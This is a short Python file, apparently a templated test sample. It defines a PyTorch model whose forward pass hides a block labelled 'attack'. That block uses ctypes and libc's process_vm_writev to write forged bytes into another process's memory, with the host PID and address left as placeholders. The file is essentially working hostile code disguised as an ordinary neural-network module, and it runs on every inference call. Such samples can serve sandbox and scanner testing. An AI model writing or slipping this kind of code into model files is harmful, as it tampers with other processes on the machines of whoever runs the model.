"""Writes into the host's memory by the system call made for that."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(b"forged")
        mine = (ctypes.c_size_t * 2)(ctypes.addressof(text), 6)
        theirs = (ctypes.c_size_t * 2)(int("@HOST_ADDRESS@"), 6)

        libc.process_vm_writev(int("@HOST_PID@"), mine, 1, theirs, 1, 0)
        # end
        return self.head(x.flatten(1))
